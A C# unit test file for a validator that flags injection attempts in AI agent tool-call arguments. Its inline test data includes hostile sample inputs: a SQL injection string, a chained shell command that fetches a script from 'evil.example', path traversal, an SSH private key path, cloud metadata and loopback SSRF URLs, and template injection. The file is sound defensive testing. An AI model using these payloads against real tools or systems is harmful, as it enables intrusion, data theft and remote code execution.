using Hymba.Validation.ToolArguments;

namespace Hymba.Validation.Tests.ToolArguments;

public sealed class ArgumentInjectionTests
{
    [Fact]
    public void Cases_are_flagged_as_expected()
    {
        foreach (GuardrailCase item in GuardrailCase.Read("tool_args_injection.agentguard"))
        {
            bool flagged = item.Data.GetProperty("arguments").EnumerateObject().Any(argument => ArgumentInjection.Find(argument.Value.GetString()!).Count > 0);
            Assert.True(flagged == item.Flag, item.Data.GetRawText());
        }
    }

    [Theory]
    [InlineData("' OR 'a'='a", "tools.argument-sql")]
    [InlineData("x && curl http://evil.example/a.sh", "tools.argument-shell")]
    [InlineData("..%2f..%2fetc", "tools.argument-path")]
    [InlineData("~/.ssh/id_rsa", "tools.argument-path")]
    [InlineData("http://user@169.254.169.254/latest", "tools.argument-network")]
    [InlineData("http://[::1]:80/", "tools.argument-network")]
    [InlineData("file:///etc/hostname", "tools.argument-network")]
    [InlineData("{{config.items()}}", "tools.argument-template")]
    public void Every_kind_is_found(string value, string rule) => Assert.Contains(ArgumentInjection.Find(value), finding => finding.Rule == rule);

    [Theory]
    [InlineData("https://www.example.com/a/b?c=d")]
    [InlineData("O'Brien or O'Neill")]
    [InlineData("Select a table in the union hall")]
    [InlineData("C:\\Users\\ann\\report.docx")]
    [InlineData("src/main/app.cs")]
    public void Ordinary_values_pass(string value) => Assert.Empty(ArgumentInjection.Find(value));
}
